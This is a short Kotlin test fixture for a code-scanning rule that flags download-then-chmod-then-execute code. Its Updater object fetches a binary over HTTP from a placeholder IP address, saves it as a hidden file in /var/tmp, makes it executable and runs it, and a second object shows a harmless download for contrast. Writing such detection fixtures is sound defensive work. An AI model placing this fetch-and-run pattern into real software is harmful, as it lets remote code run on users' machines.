// Fixture for generic-download-chmod-exec (Kotlin).
// RULEID: OkHttp download, rwx permissions, Runtime.exec.
// OK: see the .java and .php fixtures.
import java.nio.file.Files
import java.nio.file.Paths
import java.nio.file.attribute.PosixFilePermissions
import okhttp3.OkHttpClient
import okhttp3.Request

object Updater {
    fun refresh() {
        val client = OkHttpClient()
        val req = Request.Builder().url("http://203.0.113.40:8088/u/helper").build()
        val bytes = client.newCall(req).execute().body!!.bytes()
        val target = Paths.get("/var/tmp/.helper")
        Files.write(target, bytes)
        Files.setPosixFilePermissions(target, PosixFilePermissions.fromString("rwxr-xr-x"))
        // ruleid: generic-download-chmod-exec
        Runtime.getRuntime().exec(arrayOf(target.toString()))
    }
}

object ReportViewer {
    fun show() {
        // ok: generic-download-chmod-exec
        val text = java.net.URL("https://reports.internal.example/today.txt").readText()
        println(text)
    }
}
